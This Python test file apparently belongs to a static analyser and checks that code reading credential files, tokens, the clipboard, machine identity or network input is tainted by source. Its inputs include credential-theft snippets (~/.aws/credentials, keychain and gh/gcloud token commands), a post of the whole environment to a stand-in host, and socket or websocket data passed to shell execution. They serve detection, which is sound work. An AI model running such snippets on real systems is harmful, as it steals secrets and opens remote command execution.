"""Calls whose result comes from outside."""

import pytest

from pratique.analysis.engine.marks import (
    CLIPBOARD,
    ENVIRONMENT,
    FILE,
    IDENTITY,
    NETWORK,
    PLATFORM,
    PROCESS,
    SECRETS,
)
from pratique.analysis.facts import Capability, Taint
from pratique.analysis.languages.python.origins import answered, variable
from pratique.analysis.languages.values import Value
from tests.analysis.languages.python.reading import facts, flows, value


@pytest.mark.parametrize(
    ("marks", "source"),
    [
        (FILE | SECRETS, "import os\nopen(os.path.expanduser('~/.aws/credentials')).read()"),
        (FILE, "open('notes.txt').read()"),
        (FILE | SECRETS, "for p in ['a.txt', '.npmrc']:\n  x = open(p).read()\nx"),
        (FILE | SECRETS, "from pathlib import Path\n(Path.home() / '.netrc').read_text()"),
        (ENVIRONMENT | SECRETS, "import os\nos.getenv('DEPLOY_TOKEN')"),
        (ENVIRONMENT, "import os\nos.getenv('TOKENIZER_KIND')"),
        (PROCESS, "import subprocess\nsubprocess.run(['id'], capture_output=True).stdout.decode()"),
        (PROCESS, "import os\nos.popen('whoami').read()"),
        (PROCESS | CLIPBOARD, "import subprocess\nsubprocess.check_output('pbpaste')"),
        (CLIPBOARD, "import pyperclip\npyperclip.paste()"),
        (CLIPBOARD, "import tkinter\ntkinter.Tk().clipboard_get()"),
        (IDENTITY, "import uuid\nhex(uuid.getnode())"),
        (IDENTITY, "import socket\nsocket.gethostbyname(socket.gethostname())"),
        (0, "import socket\nsocket.gethostbyname('h.invalid')"),
        (PLATFORM, "import platform\nplatform.platform()"),
        (NETWORK | IDENTITY, "import requests\nrequests.get('https://api.ipify.org').text"),
        (NETWORK, "import requests\nrequests.get('https://h.invalid/ip').text"),
        (SECRETS, "import win32crypt\nwin32crypt.CryptUnprotectData(x, None, None, None, 0)[1]"),
    ],
)
def test_what_comes_from_outside_is_marked_with_where_from(marks: int, source: str) -> None:
    assert marks == value(source).marks


def test_the_code_that_a_program_ends_with_tells_nothing_of_what_it_printed() -> None:
    assert 0 == value("import subprocess\nsubprocess.run(['id']).returncode").marks


def test_a_connection_keeps_its_address() -> None:
    assert "h.invalid" == value("import http.client\nhttp.client.HTTPSConnection('h.invalid')").form


def test_a_variable_is_shown_by_its_name() -> None:
    assert "%X%" == variable(Value(const="X"), 1).form
    assert 0 == variable(Value(const="PATH"), 1).marks
    assert ENVIRONMENT == variable(Value(), 1).marks


def test_only_services_that_tell_the_own_address_identify() -> None:
    assert IDENTITY == answered("https://ipinfo.io/json")
    assert 0 == answered("https://pipinfo.iot/json")
    assert 0 == answered(None)


@pytest.mark.parametrize(
    ("data", "whole"),
    [
        ("dict(os.environ)", True),
        ("json.dumps({k: v for k, v in os.environ.items()})", True),
        ("str({**os.environ})", True),
        ("os.environ.copy()", True),
        ("os.environ['SAMPLE_KEY']", False),
        ("os.environ.get('SAMPLE_KEY')", False),
        ("os.environ.copy()['SAMPLE_KEY']", False),
        ("dict(os.environ).get('SAMPLE_KEY')", False),
    ],
)
def test_all_variables_together_are_told_apart_from_one_of_them(data: str, whole: bool) -> None:
    source = f"import os, json, requests\ndef f():\n  requests.post('https://a.invalid', data={data})\n"
    ((_, _, taints),) = flows(source)
    assert Taint.ENVIRONMENT in taints
    assert whole == (Taint.WHOLE_ENVIRONMENT in taints)


def test_a_path_that_is_opened_is_read_or_written_by_its_mode() -> None:
    source = "from pathlib import Path\nwith (Path.home() / 'notes').open({}) as f: pass"
    for mode, capability in (
        ("'a'", Capability.FILE_WRITE),
        ("", Capability.FILE_READ),
        ("'rb'", Capability.FILE_READ),
    ):
        (use,) = [use for use in facts(source.format(mode)).uses if use.api == "pathlib.Path.open"]
        assert (capability, "~/notes") == (use.capability, use.argument)


@pytest.mark.parametrize(
    "source",
    [
        "import asyncio, subprocess\nasync def f():\n  r, w = await asyncio.open_connection('x.invalid', 9)\n  subprocess.run(await r.readline(), shell=True)",
        "import websockets, os\nasync def f():\n  async with websockets.connect('wss://x.invalid') as s:\n    async for m in s:\n      os.system(m)",
    ],
)
def test_what_a_connection_gives_comes_from_the_network(source: str) -> None:
    assert any(sink is Capability.PROCESS and Taint.NETWORK in marks for sink, _, marks in flows(source))


@pytest.mark.parametrize(
    ("command", "kept"),
    [
        ("['git', 'credential', 'fill']", True),
        ("['security', 'find-generic-password', '-wa', 'x']", True),
        ("'gh auth token'", True),
        ("['gcloud', 'auth', 'print-access-token']", True),
        ("['git', 'config', '--get', 'user.name']", False),
        ("['gh', 'auth', 'status']", False),
    ],
)
def test_programs_that_print_what_they_keep_give_secrets(command: str, kept: bool) -> None:
    assert kept == bool(value(f"import subprocess\nsubprocess.check_output({command})").marks & SECRETS)


@pytest.mark.parametrize(
    "source",
    [
        "import netrc\nnetrc.netrc().authenticators('x')",
        "import boto3\nboto3.Session().get_credentials().secret_key",
        "import google.auth\ngoogle.auth.default()[0].token",
        "import keyring\nkeyring.get_credential('x', None).password",
    ],
)
def test_libraries_that_keep_logins_give_secrets(source: str) -> None:
    assert value(source).marks & SECRETS


@pytest.mark.parametrize("name", ["system", "machine", "architecture"])
def test_the_kind_of_system_tells_nothing_of_anybody(name: str) -> None:
    assert 0 == value(f"import platform\nplatform.{name}()").marks
